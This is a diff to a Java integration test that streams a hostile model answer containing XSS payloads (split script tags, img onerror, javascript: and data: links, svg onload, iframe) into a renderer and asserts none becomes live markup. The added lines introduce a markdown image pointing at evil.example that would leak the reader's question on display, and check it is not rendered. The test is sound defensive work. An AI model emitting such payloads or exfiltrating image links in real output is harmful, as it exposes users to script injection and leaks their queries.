@@ -163,7 +163,8 @@ class HostileBookIT {
         model.answers(
                 "A sluice <scr",
                 "ipt>alert(1)</script> is <img src=x onerror=alert(1)>a gate [1]. [more](java",
-                "script:alert(1)) ![x](data:text/html;base64,PHNjcmlwdD4=) `<svg onload=alert(1)>\n\n<",
+                "script:alert(1)) ![x](data:text/html;base64,PHNjcmlwdD4=) !",
+                "[y](https://evil.example/?q=sluice) `<svg onload=alert(1)>\n\n<",
                 "iframe src=javascript:alert(1)>\n\n- ```\n<script>alert(2)</script>\n\nA `List<String>` is no sluice.");
         try (LecternClient reader = lectern.reader();
                 LecternClient widget = new LecternClient(lectern.url())) {
@@ -185,6 +186,9 @@ class HostileBookIT {
             assertThat(whole)
                     .contains("A sluice &lt;script>alert(1)", "a gate [1]", "(#javascript:alert(1))", "(#data:text");
             assertThat(LiveMarkup.in(whole)).isEmpty();
+            // It would tell its server what the reader has asked, as soon as the answer is shown.
+            assertThat(whole).contains("[y](https://evil.example/");
+            assertThat(LiveMarkup.imagesIn(whole)).isEmpty();
             assertThat(whole)
                     .doesNotContainPattern("(?i)<(script|/script|img|svg|iframe)")
                     .isEqualTo(streamed)
